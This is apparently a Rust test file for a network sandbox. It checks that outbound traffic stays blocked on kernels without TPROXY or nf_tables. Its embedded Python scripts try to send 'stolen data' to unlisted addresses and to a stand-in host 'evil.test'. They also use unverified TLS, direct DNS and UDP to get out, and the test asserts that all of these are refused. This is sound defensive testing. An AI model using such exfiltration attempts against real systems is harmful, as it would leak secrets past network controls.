//! Kernels that lack TPROXY, or nf_tables altogether: traffic is caught in another way, and what holds stays the same. The
//! launcher finds out by itself what there is; nothing tells it (`inside/kernel.py`).

use crate::cases;
use crate::escape::nothing_went_to;
use crate::internet::internet;
use crate::internet::recorder::Recorder;
use crate::rig;
use crate::sandbox::Run;

cases![with_everything, without_tproxy, without_nf_tables, without_nf_tables_and_a_policy];

/// What this kernel has: the sockets to nf_tables that are let through.
fn on_kernel(run: Run, nf_tables: &str) -> Run {
    run.behind(&["/usr/bin/python3", "-c", include_str!("inside/kernel.py"), nf_tables])
}

/// How traffic is caught, by the sandbox's own list of sockets: what listens on the port of the capture, and what the
/// accepted end of a captured connection is called.
const MODE: &str = r#"
import errno, re
def mode(host):
    rows = lambda: [line.split()[1:4] for line in open("/proc/net/tcp").read().splitlines()[1:]]
    if not any(local.endswith(":FC65") and state == "0A" for local, _, state in rows()):
        return "ports"
    stream = tcp(host)
    ours = "%04X" % stream.getsockname()[1]
    theirs = [local for local, remote, state in rows() if remote.endswith(f":{ours}") and state == "01"]
    return {":01BB": "tproxy", ":FC65": "redirect"}[theirs[0][-5:]]
def outcome(address, port, family=socket.AF_INET):
    with socket.socket(family) as stream:
        stream.settimeout(20)
        try:
            stream.connect((address, port))
            stream.sendall(b"stolen data\r\n\r\n")
            return "closed" if read_to_end(stream).count(b"reached") == 0 else "REACHED"
        except OSError as error:
            return errno.errorcode.get(error.errno, str(error))
"#;

/// One sandbox that tries everything a client can. `address` is of no rule; `outside_the_policy` is what becomes of a port
/// that no rule names.
fn holds(mode: &str, nf_tables: &str, address: &str, outside_the_policy: &str) {
    let (host, secret) = (format!("{mode}.kernels.allowed.test"), format!("canary-of-{mode}"));
    let recorders = [22, 443, 8080].map(|port| Recorder::tcp(&format!("{address}:{port}"), b"reached"));
    let tries = TRIES.replace("@WEB@", rig::WEB);
    let names = format!("HOST, MODE, FAR, OUTSIDE = {host:?}, {mode:?}, {address:?}, {outside_the_policy:?}");
    let script = format!("{MODE}\n{names}\n{tries}");
    let run = Run::new().allow(&host).allow(&format!("{host}:8443")).bind(&format!("{host} X-Api-Key: {{KEY}}"));
    let output = on_kernel(run.secret_env("KEY", &secret).wire(&script), nf_tables).run();
    output.expect_code(0);
    let keys: Vec<String> =
        internet().web.requests(&host).iter().flat_map(|seen| seen.header("x-api-key")).map(str::to_owned).collect();
    assert_eq!(keys, vec![secret; 4], "{output:#?}");
    assert!(internet().web.requests(&format!("{mode}.kernels.evil.test")).is_empty());
    assert_eq!(internet().dns.queries(&format!("{mode}.kernels.evil.test")), 0);
    recorders.iter().for_each(Recorder::assert_nothing);
    nothing_went_to(address);
    let codes: Vec<&str> = output.audit.iter().filter_map(|row| row["code"].as_str()).collect();
    assert!(codes.contains(&"host_not_listed") && codes.contains(&"upstream_unreachable"), "{codes:?}");
}

const TRIES: &str = r#"
check("how traffic is caught", mode(HOST), MODE)
def permitted():
    answer = request(tls(HOST), ["GET /echo HTTP/1.1", f"Host: {HOST}"])
    check("permitted", (answer.status, b"x-api-key" in answer.body), (200, True))
    check("by the explicit proxy", request(tls(HOST, via=connect), ["GET /echo HTTP/1.1", f"Host: {HOST}"]).status, 200)
    h2 = H2(tls(HOST, ("h2",)))
    check("over h2", h2.answer(h2.send(HOST, "/echo"))["status"], 200)
    answer = request(tls(HOST, via=lambda host: tcp(host, 8443)), ["GET / HTTP/1.1", f"Host: {HOST}:8443"])
    check("the policy's other port", (answer.status, answer.code), (502, "upstream_unreachable"))
def refused():
    evil = f"{MODE}.kernels.evil.test"
    answer = request(tls(evil), ["GET / HTTP/1.1", f"Host: {evil}"])
    check("a host of no rule", (answer.status, answer.code), (403, "host_not_listed"))
    unverified = ssl._create_unverified_context()
    raw = unverified.wrap_socket(tcp(FAR), server_hostname=None)
    answer = request(raw, ["GET / HTTP/1.1", f"Host: {FAR}"])
    check("an address of no rule", (answer.status, answer.code), (403, "host_not_listed"))
    answer = request(unverified.wrap_socket(tcp(FAR), server_hostname=HOST), ["GET / HTTP/1.1", f"Host: {HOST}"])
    check("a permitted name to another address goes to its own", answer.status, 200)
    check("no TLS", outcome(FAR, 443), "closed")
def other_ports():
    for address, family in (FAR, socket.AF_INET), ("2a11:22:44::60", socket.AF_INET6), (f"::ffff:{FAR}", socket.AF_INET6):
        for port in 22, 8080:
            check(f"{address} port {port}", outcome(address, port, family), OUTSIDE)
def names():
    for kind in socket.SOCK_DGRAM, socket.SOCK_STREAM:
        with socket.socket(socket.AF_INET, kind) as asker:
            asker.settimeout(20)
            # Any server's address will do.
            asker.connect((FAR, 53))
            labels = b"".join(bytes([len(label)]) + label.encode() for label in HOST.split("."))
            query = b"\x12\x34\1\0\0\1\0\0\0\0\0\0" + labels + b"\0\0\1\0\1"
            asker.sendall(query if kind == socket.SOCK_DGRAM else len(query).to_bytes(2, "big") + query)
            check("an answer of DNS", asker.recv(512), lambda got: socket.inet_aton("@WEB@") in got)
def datagrams():
    for address, family in (FAR, socket.AF_INET), ("2a11:22:44::60", socket.AF_INET6):
        with socket.socket(family, socket.SOCK_DGRAM) as quic:
            quic.settimeout(20)
            quic.connect((address, 443))
            quic.send(b"stolen")
            try:
                got = quic.recv(100)
            except OSError as error:
                got = error.errno
            check(f"UDP to {address}", got, errno.ECONNREFUSED)
def own_servers():
    with socket.create_server(("127.0.0.1", 8000)) as server:
        with socket.create_connection(("127.0.0.1", 8000)) as own:
            peer, _ = server.accept()
            peer.sendall(b"own")
            check("a server of the command's own", own.recv(3), b"own")
for part in permitted, refused, other_ports, names, datagrams, own_servers:
    attempt(part.__name__, part)
"#;

fn with_everything() {
    holds("tproxy", "yes", "11.22.44.211", "closed");
}

fn without_tproxy() {
    holds("redirect", "no,yes", "11.22.44.212", "closed");
}

/// The ports of the policy are caught, and 80 and 443; no other leads anywhere.
fn without_nf_tables() {
    holds("ports", "no", "11.22.44.213", "ECONNREFUSED");
}

fn without_nf_tables_and_a_policy() {
    let recorder = Recorder::tcp("11.22.44.210:443", b"reached");
    let script = format!(
        "{MODE}
check('how traffic is caught', mode('11.22.44.210'), 'ports')
for port, wanted in (22, 'ECONNREFUSED'), (8080, 'ECONNREFUSED'), (80, 'closed'), (443, 'closed'):
    check(f'port {{port}}', outcome('11.22.44.210', port), wanted)
answer = request(tcp(*PROXY), ['GET http://11.22.44.210/ HTTP/1.1', 'Host: 11.22.44.210'])
check('the explicit proxy', answer.status, 403)"
    );
    on_kernel(Run::new().wire(&script), "no").run().expect_code(0);
    recorder.assert_nothing();
    nothing_went_to("11.22.44.210");
}
